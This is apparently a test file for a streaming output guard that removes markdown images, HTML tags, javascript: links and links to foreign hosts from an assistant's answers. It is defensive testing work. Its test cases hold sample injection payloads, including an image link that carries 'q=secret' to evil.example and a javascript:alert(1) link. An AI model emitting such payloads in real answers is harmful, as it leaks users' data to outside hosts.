"""What an answer may not contain, whole and in every cutting of a stream."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from orchestrator.guard import LONGEST_HELD, OutputGuard, clean

OWN = "http://127.0.0.1:8000"


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("Plain words, 3 of 24.", "Plain words, 3 of 24."),
        ("years < 5 and > 3, or <3", "years < 5 and > 3, or <3"),
        ("a ![chart](https://evil.example/?q=secret) b", "a chart b"),
        ("a ![chart][1] b", "a chart b"),
        ("[![x](https://evil.example)](https://evil.example)", "x"),
        ("<img src='https://evil.example/a.png'> text", " text"),
        ("<scr<b>ipt>alert(1)</script> text", "alert(1) text"),
        ("<!-- hidden --> text", " text"),
        ("[ours](/admin) and [other](https://evil.example/a(b)c)", "[ours](/admin) and other"),
        ("[ours](http://127.0.0.1:8000/admin)", "[ours](http://127.0.0.1:8000/admin)"),
        ("[not ours](http://127.0.0.1:8000.evil.example/)", "not ours"),
        ("[sly](//evil.example)", "sly"),
        ("[run](javascript:alert(1))", "run"),
        ("see https://evil.example/?q=1.", "see evil.example/?q=1."),
        ("<https://evil.example> text", "evil.example text"),
        ("[1]: https://evil.example", "[1] : evil.example"),
    ],
)
def test_only_words_and_own_pages_are_left(said: str, shown: str) -> None:
    assert clean(said, OWN) == shown


PIECES = [
    "![",
    "[",
    "]",
    "(",
    ")",
    "<",
    ">",
    "!",
    " ",
    "\n",
    "word",
    "https://evil.example/?q=1",
    "img src=",
    "/admin",
    "`",
    ":",
]


@given(st.lists(st.sampled_from(PIECES), max_size=30), st.lists(st.integers(1, 9), min_size=1, max_size=20))
def test_no_cutting_of_a_stream_lets_an_image_a_tag_or_a_foreign_link_through(
    pieces: list[str], cuts: list[int]
) -> None:
    said, shown, guard = "".join(pieces), "", OutputGuard(OWN)
    while said:
        for cut in cuts:
            shown += guard.feed(said[:cut])
            said = said[cut:]
    shown += guard.close()

    assert "https://evil" not in shown
    assert "<img" not in shown
    assert not re.search(r"!\[[^\[\]\\]*\]\([^)]*\)", shown)
    assert not re.search(r"(?<!\\)\[[^\[\]\\]*\]\((?!/admin)[^()]*\)", shown)


def test_a_construct_that_never_ends_is_let_go_defused() -> None:
    guard = OutputGuard()

    shown = "".join(guard.feed("[never closed ") for _ in range(LONGEST_HELD // 10))

    assert len(shown) > LONGEST_HELD / 2
    assert "[" not in shown.replace("\\[", "")


def test_words_are_shown_as_soon_as_they_are_whole() -> None:
    guard = OutputGuard()

    assert [guard.feed("One "), guard.feed("tw"), guard.feed("o three")] == ["One ", "", "two "]
    assert guard.close() == "three"
